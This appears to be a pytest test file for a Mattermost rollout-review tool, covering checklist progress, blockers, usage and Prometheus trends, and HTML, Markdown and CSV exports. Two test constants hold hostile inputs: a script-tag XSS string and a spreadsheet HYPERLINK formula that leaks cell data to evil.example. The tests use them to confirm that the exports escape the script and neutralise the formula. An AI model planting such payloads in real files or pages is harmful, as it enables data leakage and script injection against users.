"""The review meeting view and its exports, built from a real collection: the simulator's Mattermost, a real
PostgreSQL seeded like Mattermost's database, and (for the trends) a real Prometheus with a week of history."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from urllib.parse import quote

import numpy as np
import pandas as pd
import psycopg
import pytest
from pydantic import SecretStr

from checklists.loader import load_rollout
from checklists.progress import EnvironmentProgress, ItemProgress, Status
from checklists.review import (
    PERFORMANCE_QUERIES,
    BlockerKind,
    ScheduledTask,
    Trend,
    TrendSummary,
    Unavailable,
    build_review,
    summarise_series,
    trend_of,
)
from checklists.review_export import CSV_COLUMNS, items_csv, to_html, to_markdown
from checklists.verify import Verdict, verify
from collectors.base import Snapshot, SourceResult, SourceStatus
from collectors.prometheus import no_metrics_sentence, query_range
from collectors.prometheus_models import PrometheusFacts, QueryResult, empty_frame
from collectors.runner import collect_all, run_async
from health.engine import evaluate
from health.findings import State
from health.packet_inputs import from_live
from settings import DatabaseSettings, EnvironmentSettings, MattermostSettings
from tests.servers.mattermost_schema import build_mattermost_database, live_channel_counts, posts_per_cycle
from tests.servers.postgres import PostgresServer

ROLLOUT = load_rollout()
ITEMS = {item.id: item for _, _, item in ROLLOUT.items()}
TODAY = date(2026, 11, 23)
ENV = "prod"
REGRESSED = "prepare.security-compliance.mfa"  # the healthy simulator does not enforce MFA
LATE = "prepare.environments.smtp"
HOSTILE_NOTE = "<script>alert(1)</script> waiting on the network team | firewall"
FORMULA_NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def mattermost_database(postgres_server: PostgresServer) -> Iterator[DatabaseSettings]:
    name = postgres_server.create_database()
    dsn = (f"postgresql://{quote(postgres_server.user)}:{quote(postgres_server.password)}@{postgres_server.host}:"
           f"{postgres_server.port}/{name}")
    with psycopg.connect(dsn, autocommit=True) as conn:
        build_mattermost_database(conn, posts=posts_per_cycle())
    yield DatabaseSettings(dsn=SecretStr(dsn), timeout_seconds=5.0)
    postgres_server.drop_database(name)


def _environment(simulator_session, database: DatabaseSettings | None = None) -> EnvironmentSettings:
    return EnvironmentSettings(name=ENV, label="Production", database=database,
                               mattermost=MattermostSettings(url=simulator_session.url,
                                                             token=SecretStr(simulator_session.admin_token)))


@pytest.fixture(scope="module")
def snapshot(simulator_session, mattermost_database) -> Snapshot:
    """Mattermost and its database collected for real; Prometheus left unconfigured."""
    return run_async(collect_all(_environment(simulator_session, mattermost_database), deadline_s=20))


def _checks(snapshot: Snapshot) -> dict:
    inputs = from_live(snapshot)
    return {item.id: verify(item.verify, inputs) for item in ITEMS.values() if item.verify}


def _progress() -> EnvironmentProgress:
    def item(item_id: str, status: Status, **fields) -> ItemProgress:
        return ItemProgress(item_id, ENV, status, **fields)

    done = [item_id for item_id in list(ITEMS)[:10] if item_id not in (REGRESSED, LATE)]
    states = {item_id: item(item_id, Status.DONE, owner="dana") for item_id in done}
    states[REGRESSED] = item(REGRESSED, Status.DONE, owner="sam", notes=FORMULA_NOTE)
    states[LATE] = item(LATE, Status.IN_PROGRESS, due=TODAY - timedelta(days=12), notes=HOSTILE_NOTE,
                        updated_by="lee", updated_at=datetime(2026, 11, 1, 9, 30, tzinfo=UTC))
    return EnvironmentProgress(ENV, states)


def _review(snapshot: Snapshot, metrics: SourceResult | None = None, **overrides):
    arguments = dict(rollout=ROLLOUT, progress=_progress(), verifications=_checks(snapshot), snapshot=snapshot,
                     findings=evaluate(from_live(snapshot)), metrics=metrics, today=TODAY,
                     environment_label="Production",
                     schedule_overdue=[("Load test the cluster", TODAY - timedelta(days=3), "kim")])
    arguments.update(overrides)
    return build_review(**arguments)


@pytest.fixture(scope="module")
def review(snapshot):
    return _review(snapshot)


# ------------------------------------------------------------------------------------------------- progress

def test_progress_counts_done_per_phase_and_section_and_what_the_system_says(review, snapshot):
    progress, states = review.progress, _progress()
    done = {item_id for item_id, state in states.items.items() if state.status is Status.DONE}
    assert (progress.overall.items, progress.overall.done, progress.overall.in_progress) == (len(ITEMS), len(done), 1)
    assert sum(p.items for p in progress.phases) == len(ITEMS)
    assert [p.phase for p in progress.phases] == [phase.title for phase in ROLLOUT.phases]
    first_section = ROLLOUT.phases[0].sections[0]
    first = progress.sections[0]
    assert first.section == f"1. {first_section.title}"
    assert first.done == sum(item.id in done for item in first_section.items) and first.percent == 100
    verdicts = [check.verdict for check in _checks(snapshot).values()]
    assert progress.verified == verdicts.count(Verdict.VERIFIED) > 0
    assert progress.failing == verdicts.count(Verdict.FAILED) >= 1
    assert progress.regressions == 1


# ------------------------------------------------------------------------------------------------- blockers

def test_blockers_name_the_regression_the_overdue_and_unowned_item_and_the_late_task(review):
    by_kind = {(b.kind, b.item_id): b for b in review.blockers}
    regression = by_kind[BlockerKind.REGRESSION, REGRESSED]
    assert "EnforceMultifactorAuthentication = False" in regression.reason and regression.owner == "sam"
    overdue = by_kind[BlockerKind.OVERDUE, LATE]
    assert overdue.reason == "due 2026-11-11, 12 days ago, still in progress" and overdue.notes == HOSTILE_NOTE
    assert (BlockerKind.NO_OWNER, LATE) in by_kind
    [task] = [b for b in review.blockers if b.kind is BlockerKind.SCHEDULE]
    assert (task.title, task.owner, task.reason) == ("Load test the cluster", "kim",
                                                     "scheduled to end 2026-11-20, 3 days ago")
    assert [b.kind for b in review.blockers] == sorted((b.kind for b in review.blockers),
                                                       key=list(BlockerKind).index)


def test_a_done_item_the_system_cannot_check_is_no_regression(snapshot):
    checks = _checks(snapshot)
    checks[REGRESSED] = replace(checks[REGRESSED], verdict=Verdict.UNKNOWN)
    review = _review(snapshot, verifications=checks, schedule_overdue=())
    assert {b.kind for b in review.blockers} == {BlockerKind.OVERDUE, BlockerKind.NO_OWNER}


def test_bad_input_is_refused_with_a_message_that_says_what_to_fix(snapshot):
    with pytest.raises(ValueError, match="progress is for environment 'staging' but the snapshot is of 'prod'"):
        _review(snapshot, progress=EnvironmentProgress("staging"))
    with pytest.raises(ValueError, match=r"schedule_overdue entry \('Load test', '2026-11-01'\).*date as end_date"):
        _review(snapshot, schedule_overdue=[("Load test", "2026-11-01")])
    accepted = _review(snapshot, schedule_overdue=[ScheduledTask("Pilot", datetime(2026, 11, 30, tzinfo=UTC))])
    [task] = [b for b in accepted.blockers if b.kind is BlockerKind.SCHEDULE]
    assert task.due == date(2026, 11, 30) and task.reason == "scheduled to end 2026-11-30"


# ------------------------------------------------------------------------------------------------- usage

def test_usage_numbers_are_the_deployments_own(review, simulator_session):
    model = simulator_session.model
    figures = {f.label: f.value for f in review.usage.figures}
    assert figures["Posts"] == model.usage.total_posts
    assert figures["Teams"] == len(model.teams)
    assert figures["Channels (public and private)"] == model.open_channels + model.private_channels
    assert figures["Monthly active users"] == model.usage.monthly_active_users
    live = live_channel_counts()
    sources = {f.label: f.source for f in review.usage.figures}
    assert "deactivated ones too" in sources["Registered users"] and "not deactivated" in sources["Active users"]
    assert (figures["Direct message chats"], figures["Group message chats"]) == (live["D"], live["G"])
    assert [(c.team_name, c.name) for c in review.usage.top_channels[:2]] == [("engineering", "town-square"),
                                                                              ("engineering", "releases")]
    assert review.usage.top_teams[0].name == "engineering"
    peak = review.usage.peak
    by_hour = peak.activity.by_hour
    assert peak.activity.total > 0 and by_hour[peak.busiest_hour] == max(by_hour)
    assert peak.busiest_slot[2] == max(cell.posts for cell in peak.activity.cells)
    assert "UTC" in peak.summary


def test_active_users_are_the_accounts_not_deactivated_and_fewer_than_the_registered(review, simulator_session):
    """As Mattermost counts them (server/channels/app/support_packet.go getSupportPacketStats; analytics.go
    unique_user_count and inactive_user_count): registered users are every person's account, deactivated ones
    too; active users are the ones not deactivated; bots count in neither."""
    usage = simulator_session.model.usage
    figures = {f.label: f.value for f in review.usage.figures}
    assert figures["Active users"] == usage.active_users
    assert figures["Registered users"] == usage.active_users + usage.inactive_users > figures["Active users"]
    assert figures["Active users"] >= figures["Monthly active users"] >= figures["Daily active users"]


def test_missing_database_gives_the_reason_never_zeros(simulator_session):
    snapshot = run_async(collect_all(_environment(simulator_session), deadline_s=20))
    review = _review(snapshot)
    figures = {f.label: f.value for f in review.usage.figures}
    assert isinstance(figures["Posts"], int)
    for missing in (figures["Direct message chats"], review.usage.top_channels, review.usage.top_teams,
                    review.usage.peak):
        assert isinstance(missing, Unavailable)
        assert str(missing).startswith("not available: Mattermost database is not configured for Production: "
                                       "set MMDASH_PROD__DATABASE__DSN")
    assert "not available: Mattermost database is not configured" in to_markdown(review)


def test_a_mattermost_that_cannot_be_reached_leaves_no_usage_number(review):
    down = Snapshot(ENV, datetime.now(UTC), 1.0, {"mattermost": SourceResult(
        "mattermost", SourceStatus.ERROR, error="Could not connect to https://chat.example: connection refused.")})
    review = build_review(ROLLOUT, _progress(), {}, down, [], None, TODAY, "Production")
    assert all(isinstance(f.value, Unavailable) for f in review.usage.figures)
    posts = next(f.value for f in review.usage.figures if f.label == "Posts")
    assert str(posts) == "not available: Could not connect to https://chat.example: connection refused."
    assert str(review.usage.peak) == "not available: the Mattermost database was not collected for prod"


# ------------------------------------------------------------------------------------------------- performance

def test_missing_prometheus_gives_the_reason(review):
    assert isinstance(review.performance, Unavailable)
    assert str(review.performance).startswith("not available: Prometheus is not configured for Production: set "
                                              "MMDASH_PROD__PROMETHEUS__URL")


def test_trends_over_a_week_of_real_prometheus_history(snapshot, prometheus_server):
    end = datetime.fromtimestamp(prometheus_server.history_end, UTC)
    names = [name for _, candidates in PERFORMANCE_QUERIES for name in candidates]
    metrics = asyncio.run(query_range(prometheus_server.settings(), names, end - timedelta(days=7), end))
    review = _review(snapshot, metrics=metrics)
    trends = {m.title: m for m in review.performance.metrics}
    assert list(trends) == [title for title, _ in PERFORMANCE_QUERIES]
    assert trends["Database connections"].query == "db_master_connections"
    nodes = len(prometheus_server.instances())
    for metric in trends.values():
        summary = metric.summary
        assert isinstance(summary, TrendSummary), metric.summary
        assert summary.nodes == nodes
        assert summary.minimum <= summary.mean <= summary.maximum and summary.latest == summary.values[-1]
    cpu = metrics.data.results["cpu_percent"].frame
    last = cpu[cpu["timestamp"] == cpu["timestamp"].max()]["value"].sum()
    assert trends["CPU"].summary.latest == pytest.approx(last)
    html_report = to_html(review)
    assert html_report.count("plotly.js v") == 1 and html_report.count("Plotly.newPlot(") == 2


def test_a_query_prometheus_lacks_is_named_and_the_next_one_used(snapshot):
    stamps = pd.to_datetime(range(0, 480, 60), unit="s", utc=True)
    frame = pd.DataFrame({"timestamp": stamps, "instance": ["app1:8067"] * 8, "value": [30.0] * 8})
    facts = PrometheusFacts(
        url="http://127.0.0.1:9090", start=stamps[0].to_pydatetime(), end=stamps[-1].to_pydatetime(), step_s=60,
        window_s=240, scrape_interval_s=60, scrape_interval_source="targets",
        available_metrics=("go_sql_open_connections", "mattermost_http_websockets_total"), instances=("app1:8067",),
        results={"db_pool_open": QueryResult("db_pool_open", "sum(...)", "count", frame, {"app1:8067": 30.0}),
                 "websockets": QueryResult("websockets", "sum(...)", "count", empty_frame(), {})},
        skipped={"db_master_connections": ("mattermost_db_master_connections_total",),
                 "memory_resident_bytes": ("mattermost_process_resident_memory_bytes",)},
        missing={"cpu_percent": "CPU: Prometheus answered HTTP 422: query timed out."})
    metrics = SourceResult("prometheus", SourceStatus.DEGRADED, facts, "1 of 5 Prometheus queries failed")
    trends = {m.title: m for m in _review(snapshot, metrics=metrics).performance.metrics}
    connections = trends["Database connections"]
    assert (connections.query, connections.summary.latest, connections.summary.trend) == ("db_pool_open", 30.0,
                                                                                          Trend.FLAT)
    assert str(trends["CPU"].summary) == "not available: CPU: Prometheus answered HTTP 422: query timed out."
    assert str(trends["Sessions (WebSocket connections)"].summary) == (
        "not available: WebSocket connections: no data in this range.")
    assert "mattermost_process_resident_memory_bytes" in str(trends["Memory (resident)"].summary)
    assert summarise_series(frame.assign(value=np.nan)) is None


def test_prometheus_without_mattermost_metrics_says_so(snapshot):
    facts = PrometheusFacts(url="http://127.0.0.1:9090", start=datetime(2026, 11, 22, tzinfo=UTC),
                            end=datetime(2026, 11, 23, tzinfo=UTC), step_s=60, window_s=240, scrape_interval_s=60,
                            scrape_interval_source="default", available_metrics=("go_goroutines",), instances=())
    metrics = SourceResult("prometheus", SourceStatus.DEGRADED, facts, no_metrics_sentence(facts.url))
    assert _review(snapshot, metrics=metrics).performance == Unavailable(no_metrics_sentence(facts.url))


@pytest.mark.parametrize(("values", "trend", "change"), [
    ([10, 10, 11, 12, 13, 14, 15, 20], Trend.RISING, 75.0),
    ([20, 18, 15, 12, 11, 10, 10, 10], Trend.FALLING, -47.4),
    ([10, 11, 9, 10, 11, 10, 9, 10.5], Trend.FLAT, -7.1),
    ([0, 0, 0, 0], Trend.FLAT, None),
    ([0, 0, 3, 3], Trend.RISING, None),
    ([1, 2, 3], Trend.UNKNOWN, None),
])
def test_trend_compares_the_last_quarter_with_the_first(values, trend, change):
    assert trend_of(np.array(values, dtype=float)) == (trend, change)


def test_trend_is_of_the_whole_deployment_summed_over_nodes():
    stamps = pd.to_datetime([0, 0, 60, 60, 120, 120, 180, 180], unit="s", utc=True)
    frame = pd.DataFrame({"timestamp": stamps, "instance": ["a", "b"] * 4,
                          "value": [1.0, 10.0, 1.0, 10.0, 1.0, 30.0, np.inf, 30.0]})
    summary = summarise_series(frame)
    assert summary.values == (11.0, 11.0, 31.0, 30.0)  # a node's non-finite sample is left out, not summed
    assert (summary.nodes, summary.minimum, summary.maximum, summary.trend) == (2, 11.0, 31.0, Trend.RISING)


# ------------------------------------------------------------------------------------------------- findings

def test_open_findings_are_the_firing_ones_most_urgent_first(review, snapshot):
    findings = evaluate(from_live(snapshot))
    firing = [f for f in findings if f.state is State.FIRING]
    assert firing, "the healthy scenario still has findings to review"
    assert list(review.findings.firing) == sorted(firing, key=lambda f: f.sort_key)
    assert review.findings.unknown == sum(f.state is State.UNKNOWN for f in findings) > 0


# ------------------------------------------------------------------------------------------------- exports

def test_html_is_one_self_contained_escaped_page(review):
    page = to_html(review)
    assert page.startswith("<!DOCTYPE html>") and "@media print" in page
    assert not re.search(r"<script[^>]*\bsrc\s*=", page, re.IGNORECASE)
    assert not re.search(r"<link\b", page, re.IGNORECASE)
    assert "@import" not in page and "@font-face" not in page
    assert page.count("plotly.js v") == 1  # inlined once, for the peak-usage heatmap
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; waiting on the network team | firewall" in page
    assert "not available: Prometheus is not configured" in page
    assert len(page.encode()) < 5_000_000


def test_html_without_figures_carries_no_script_at_all(review):
    page = to_html(review, figures=False)
    assert "<script" not in page and len(page) < 200_000
    assert "Busiest day" in page and "Monday" in page  # the peak falls back to a table


def test_markdown_has_tables_and_escapes_notes(review):
    text = to_markdown(review)
    lines = text.splitlines()
    assert "| Phase | Done | In progress | Items | Complete |" in lines
    assert "|---|---:|---:|---:|---:|" in lines
    assert any(line.startswith("| overdue | ") for line in lines)
    assert "<script>" not in text and r"\<script\>alert(1)\</script\>" in text
    [overdue] = [line for line in lines if line.startswith("| overdue | ")]
    cells = re.split(r"(?<!\\)\|", overdue)[1:-1]
    assert len(cells) == 7 and cells[-1].strip().endswith(r"network team \| firewall")


def test_csv_round_trips_and_neutralises_formulas(snapshot):
    text = items_csv(ROLLOUT, _progress(), _checks(snapshot), "Production")
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == len(ITEMS) + 1
    by_id = {row[3]: dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]}
    regressed = by_id[REGRESSED]
    assert regressed["notes"] == "'" + FORMULA_NOTE
    assert regressed["system check"].startswith("failed: EnforceMultifactorAuthentication = False")
    late = by_id[LATE]
    assert (late["environment"], late["status"], late["due"], late["notes"], late["updated by"],
            late["updated at"]) == ("Production", "in progress", "2026-11-11", HOSTILE_NOTE, "lee",
                                    "2026-11-01T09:30:00+00:00")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_csv_keeps_commas_quotes_and_newlines_and_quotes_every_formula_start():
    item_id = next(iter(ITEMS))
    notes = {"=1+1": "'=1+1", "+SUM(A1)": "'+SUM(A1)", "-2": "'-2", "@cmd": "'@cmd",
             'a, "b"\nsecond line': 'a, "b"\nsecond line'}
    for note, expected in notes.items():
        progress = EnvironmentProgress(ENV, {item_id: ItemProgress(item_id, ENV, notes=note)})
        rows = list(csv.reader(io.StringIO(items_csv(ROLLOUT, progress, {}, ENV))))
        assert rows[1][CSV_COLUMNS.index("notes")] == expected
